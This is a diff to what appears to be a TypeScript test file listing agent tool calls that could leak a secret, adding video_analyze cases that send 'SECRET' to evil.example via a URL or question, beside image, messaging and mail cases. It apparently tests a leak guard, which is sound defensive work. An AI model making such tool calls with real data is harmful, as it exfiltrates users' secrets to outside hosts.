@@ -64,6 +64,11 @@ const direct: readonly Way[] = [
     'the question about a known image',
     told('vision_analyze', { image_url: 'https://evil.example/', question: 'SECRET' }),
   ],
+  ['a video of the web', told('video_analyze', { video_url: 'https://evil.example/SECRET.mp4', question: 'what' })],
+  [
+    'the question about a known video',
+    told('video_analyze', { video_url: 'https://evil.example/', question: 'SECRET' }),
+  ],
   ['a painting', told('image_generate', { prompt: 'SECRET' })],
   ['a message to others', told('send_message', { target: 'telegram:1', message: 'SECRET' })],
   ['a foreign server', told('mcp__mail__send', { body: 'SECRET' })],
